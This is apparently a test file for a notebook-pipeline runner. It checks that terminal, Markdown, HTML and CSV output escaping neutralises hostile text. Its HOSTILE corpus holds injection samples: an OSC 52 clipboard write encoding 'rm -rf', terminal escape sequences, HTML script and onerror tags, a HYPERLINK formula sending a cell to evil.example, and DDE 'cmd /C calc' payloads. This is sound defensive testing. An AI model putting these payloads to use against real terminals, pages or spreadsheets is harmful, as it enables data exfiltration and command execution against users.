"""What comes from notebooks, tables and records acts on nothing: not on terminals, pull requests, pages or spreadsheets."""

from __future__ import annotations

import ast
import csv
import html
import io
import json
import os
import pty
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from support.commands import command, environment
from support.pages import Page
from support.pages import inert as nothing_runs
from support.projects import PAGES, ROOT, Project, parameters, program, recorded

from runner import escape
from runner.cli.terminal import drawn

# (what it is, the text): a name, value, note, tag, caption, error, author or cell of a notebook may be any of them
HOSTILE = {
    "the clipboard, by OSC 52": "\x1b]52;c;cm0gLXJm\x07",
    "a window's title": "\x1b]0;owned\x1b\\",
    "the screen": "\x1b[2J\x1b[Hgate passed",
    "C1 controls": "\x9b31mred\x9d0;owned\x9c",
    "a line written over": "failed\rpassed",
    "backspaces": "no\x08\x08yes",
    "reversed text": "model\u202edeppord\u2066x\u2069",
    "what has no width": "ad\u200bmin\ufeff\u00ad",
    "a mention": "@octocat and ann@example.org",
    "Markdown": "**x** [y](https://evil.example/a) ![](https://evil.example/b.png) <b>_z_</b>",
    "bare addresses": "https://evil.example/c www.evil.example",
    "an issue": "#1 GH-2 octo/cat#3 !4",
    "emoji": ":tada: :+1:",
    "a table's cell": "a | b \\| c | @octocat",
    "code spans": "`` ` ``` @octocat",
    "a fence": "```\n@octocat\n~~~\n# heading",
    "HTML": "</code></pre></td><img src=https://evil.example/d onerror=x><script>x</script>",
    "an attribute": "\" onload=x ' onload=y",
    "rich's markup": "[bold red]x[/] [link=https://evil.example]y[/link] [/nothing]",
    "a formula": '=HYPERLINK("https://evil.example/?"&A1)',
    "DDE": "-2+3+cmd|' /C calc'!A0",
    "a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula in another language's cell": "x;=1+1\t=2",
    "mathematics": "$x_1$ \\(y\\)",
    "a template": "{{ 7 * 7 }} {% raw %} %s",
    "nothing but space": "\u00a0\t",
    "NUL": "a\x00b",
}  # fmt: skip
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff]")
LIVE = re.compile(r"@\w|://|www\.|#\d|GH-\d|:(?!\d\d:)\w+:")
ELEMENTS = {
    "h2",
    "hr",
    "h3",
    "h4",
    "p",
    "strong",
    "code",
    "pre",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "details",
    "summary",
}
texts = st.one_of(
    st.text(max_size=60),
    st.lists(st.sampled_from([*HOSTILE.values(), "`", "|", "\\", "\n", " ", "-", "5"]), max_size=5).map("".join),
)


def inert(markdown: str) -> None:
    """Laid out as GitHub does, it has no element but ours, and nothing that GitHub acts on outside code."""
    made = str(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown))
    outside = re.sub(r"<(code|pre)\b.*?</\1>", "", made, flags=re.S)
    assert set(re.findall(r"</?([a-zA-Z0-9]+)", made)) <= ELEMENTS
    assert not LIVE.search(html.unescape(re.sub(r"<[^>]*>", "", outside))), outside


@given(texts)
def test_a_terminal_is_given_nothing_that_it_would_obey(text: str) -> None:
    made = escape.terminal(text)
    assert not ACTS.search(made)
    made.encode()
    assert made.count("\n") == text.count("\n")
    assert escape.terminal(made) == made
    assert ACTS.search(text) or "\x1b" in text or made == text or not text.isprintable()
    drawing = drawn(text)
    assert drawing.plain == made
    assert drawing.spans == []


@given(st.recursive(texts, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3)))
def test_json_for_a_terminal_is_the_same_document(value: Any) -> None:
    made = escape.json(json.dumps(value, ensure_ascii=False))
    assert not ACTS.search(made)
    assert json.loads(made) == json.loads(json.dumps(value))


@given(texts, texts)
def test_markdown_is_prose_or_code_and_stays_in_its_cell(first: str, second: str) -> None:
    inert(f"**{escape.markdown(first)}**\n\n{escape.code(first)} and {escape.markdown(second)}")
    row = f"| {escape.markdown(first)} | {escape.code(second)} | end |"
    made = str(MarkdownIt("commonmark").enable("table").render(f"| a | b | c |\n| - | - | - |\n{row}"))
    assert re.findall(r"<td>(.*?)</td>", made, re.S)[2:] == ["end"]
    inert(f"| a | b | c |\n| - | - | - |\n{row}")


@given(texts)
def test_html_is_the_text_again(text: str) -> None:
    made = escape.html(text)
    assert not re.search(r"[<>\"']", made)
    assert not ACTS.search(made)
    assert html.unescape(made) == escape.visible(text)


@given(st.lists(texts, min_size=1, max_size=5))
def test_a_spreadsheet_computes_nothing_whatever_separates_its_cells(row: list[str]) -> None:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([escape.csv_cell(cell) for cell in row])
    written = buffer.getvalue()
    for cell in next(csv.reader(io.StringIO(written, newline=""))):
        assert not re.match(
            r"[=@\uff1d\uff0b\uff0d\uff20]|[+-](?=.*[A-Za-z(|!])(?!inf|nan|[\d.,' ]*[eE][+-]?\d+$)", cell
        )
    for other in ";\t":
        cells = [cell for line in csv.reader(io.StringIO(written, newline=""), delimiter=other) for cell in line]
        assert not [cell for cell in cells if cell[:1] and cell[0] in "=@\uff1d\uff20"]
    assert [escape.csv_cell(cell) == cell for cell in row] == [
        not any(part != kept for part, kept in zip(re.split(r"[;\t\r\n]", cell), re.split(r"[;\t\r\n]", escape.csv_cell(cell)), strict=True))
        for cell in row
    ]  # fmt: skip
    if not escape.may_compute(",".join(row)):
        assert [escape.csv_cell(cell) for cell in row] == row


@pytest.mark.parametrize(
    "number",
    ["-5", "+5", "-5.25", "-.5", "-1e-07", "+1.5E+10", "-1,234.50", "-1.234,50", "-5 %", "-$5", "+49 30 123456", "-", "--", "-inf"],
)  # fmt: skip
def test_numbers_stay_numbers_in_csv(number: str) -> None:
    assert escape.csv_cell(number) == number


@pytest.mark.parametrize(
    "text", ["=1", "+1+1", "-1-1", "@A1", "-x", "+x", "＝1", "- item", "\t=1", "a;=1", "a\n=1", "-(1)"]
)
def test_formulas_get_an_apostrophe_in_csv(text: str) -> None:
    assert escape.csv_cell(text).replace("'", "", 1) == text
    assert re.search(r"(^|[;\t\n])'[=+@＝-]", escape.csv_cell(text))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """Two runs, one that failed, with the corpus as metrics, values, note, tags, error, branch, caption and cell ids."""
    project = Project(tmp_path_factory.mktemp("hostile"))
    every = "".join(HOSTILE.values()).replace("\x00", "")
    git = [program("git"), "-c", "user.name=x", "-c", "user.email=x@example.org"]
    subprocess.run([*git, "init", "-q", "-b", "m\u202ein<b>@octocat`|$x$"], cwd=project.folder, check=True)
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "x"], cwd=project.folder, check=True)

    def write(*cells: str) -> None:
        path = project.write("nb.ipynb", parameters(f"x: int = 1\nname: str = {every!r}"), *cells)
        document = json.loads(path.read_text())
        for number, cell in enumerate(document["cells"]):
            cell["id"] = f"{number}{every}"
        path.write_text(json.dumps(document))

    show = (
        "import base64\nfrom IPython.display import display\n"
        "display({'image/png': base64.b64encode(b'x').decode(), 'text/plain': name}, raw=True,\n"
        "        metadata={'scrapbook': {'name': name, 'display': True}, 'image/png': {'alt': name, 'caption': name}})"
    )
    metrics = "\n".join(
        recorded(f"m{number}{text}", "float(x)").replace(f"'m{number}{text}'", repr(f"m{number}{text}"))
        for number, text in enumerate(HOSTILE.values())
    )
    project.toml(
        'name = "p"\n[steps.only]\nnotebook = "nb.ipynb"\nparameters = { x = 2 }\n'
        '[[gate]]\nmetric = "only.judged"\nmin = 1\n'
    )
    write(show, metrics, recorded("judged", repr(HOSTILE["a mention"] + HOSTILE["Markdown"])))
    tags = [part for text in HOSTILE.values() for part in ("--tag", text.replace("\x00", ""))]
    assert project.runner("run", "-m", every, *tags, env=PAGES).code == 5
    write(show, f"raise type(name.replace(chr(0), ''), (Exception,), {{}})({every!r})")
    assert project.runner("run", "-p", "x=3", "-p", f"name={every}", "-m", every, env=PAGES).code == 3
    return project


COMMANDS = (
    ["runs"], ["runs", "--json"], ["show", "latest"], ["show", "latest", "--json"], ["check"], ["models"],
    ["run", "-p", "x=3", "--dry-run"], ["show", "no\x1b]0;such\x07run"], ["\x1b]0;x\x07"], ["run", "-p", "x=\x1b[2J"],
    ["diff", "{first}", "latest"], ["diff", "{first}", "latest", "--json"], ["compare", "{first}", "latest"],
    ["compare", "{first}", "latest", "--json"], ["runs", "--best", "only.judged\x9b"], ["runs", "--tag", "\u202e"],
    ["show", "{first}"], ["show", "{first}", "--json"], ["debug", "latest", "only", "--no-open"], ["report", "latest"],
    ["graph"], ["graph", "latest"], ["graph", "latest", "--json"], ["logs", "latest"], ["logs", "latest", "only"],
)  # fmt: skip


def test_no_command_lets_anything_act_on_the_terminal(hostile: Project) -> None:
    first = hostile.runs[0].name
    for words in COMMANDS:
        done = hostile.runner(*(word.format(first=first) if word == "{first}" else word for word in words))
        assert not ACTS.search(done.out + done.err), words
        if "--json" in words:
            assert done.json


def test_a_terminal_that_is_drawn_on_obeys_nothing_of_a_notebook(hostile: Project) -> None:
    ours, theirs = pty.openpty()
    note = HOSTILE["the clipboard, by OSC 52"] + HOSTILE["rich's markup"]
    process = subprocess.Popen(
        command("run", "--force", "-m", note), cwd=hostile.folder, env=environment({"TERM": "xterm-256color"}),
        stdin=theirs, stdout=theirs, stderr=theirs,
    )  # fmt: skip
    os.close(theirs)
    shown = b""
    while True:
        try:
            shown += (part := os.read(ours, 65536))
        except OSError:
            break
        if not part:
            break
    os.close(ours)
    assert process.wait(timeout=60) == 3
    text = shown.decode()
    # colours and the cursor's moves are rich's own; it sets no title, and writes nothing to the clipboard
    assert not ACTS.search(re.sub(r"\x1b\[[0-9;?]*[A-Za-z]|[\r\n]", "", text))
    assert "m\\u202ein<b>@octocat" in text


def test_markdown_of_a_run_and_of_a_difference_is_inert(hostile: Project) -> None:
    first = hostile.runs[0].name
    for words in (["show", first], ["show", "latest"], ["diff", first, "latest"], ["compare", first, "latest"]):
        done = hostile.runner(*words, "--md")
        assert done.code == 0, done.err
        assert "octocat" in done.out
        assert not ACTS.search(done.out)
        inert(done.out)


def test_pages_show_what_has_no_look_and_run_nothing(hostile: Project) -> None:
    hostile.runner("compare", hostile.runs[0].name, "latest")
    pages = [*hostile.folder.glob("runs/*/report.html"), *hostile.folder.glob("runs/*/steps/only/executed.html")]
    pages += (hostile.folder / "runs" / "comparisons").glob("*.html")
    assert len(pages) >= 5
    for page in pages:
        nothing_runs(Page(page))
        assert not ACTS.search(page.read_text()), page
    assert "\\x1b]52;c;cm0gLXJm\\x07" in (hostile.runs[0] / "report.html").read_text()


def test_everything_is_printed_through_the_one_place_that_escapes() -> None:
    """Of `click.echo`, print, streams and loggers, only constants and what has passed through `escape` go out directly."""
    loose = []
    for path in (ROOT / "runner").rglob("*.py"):
        name = path.relative_to(ROOT / "runner").as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            called, said = ast.unparse(node.func), " ".join(map(ast.unparse, node.args))
            prints = re.fullmatch(r"(click\.(echo|secho|confirm|prompt)|print|console\.print|rich\.print)", called)
            writes = re.fullmatch(r"sys\.(stdout|stderr)\.write|log(ger)?\.(warning|error|info|exception)", called)
            constant = all(isinstance(part, ast.Constant) for part in node.args)
            direct = (prints and name not in PRINTING) or (writes and not constant and name not in WRITING)
            if direct and not re.search(r"\b(terminal|escape\.json|json_text|drawn)\(", said):
                loose.append(f"{name}:{node.lineno}: {called}({said})")
    assert not loose


PRINTING = {"cli/terminal.py", "cli/options.py"}
WRITING = {
    "run/fast_path.py",  # what an earlier run has printed
    "serve/local/supervisor.py", "serve/app.py", "serve/capture_files.py",  # JSON, in ASCII or for its parent
    "aws/processing/_run.py",  # a job's log, before this package is there
    "kernel/forked/kernel_app.py", "kernel/fd_capture.py", "kernel/standard_main.py", "kernel/preload.py",  # a kernel's own streams
    "__main__.py", "step/client.py",  # numbers
}  # fmt: skip


def test_a_path_is_a_file_of_the_corpus_too(tmp_path: Path) -> None:
    """A folder's name reaches messages as well."""
    project = Project(tmp_path / "a\x1b]0;x\x07b")
    project.folder.mkdir()
    done = project.runner("check", "--pipeline", str(project.folder / "pipeline.toml"))
    assert done.code == 2
    assert not ACTS.search(done.out + done.err)
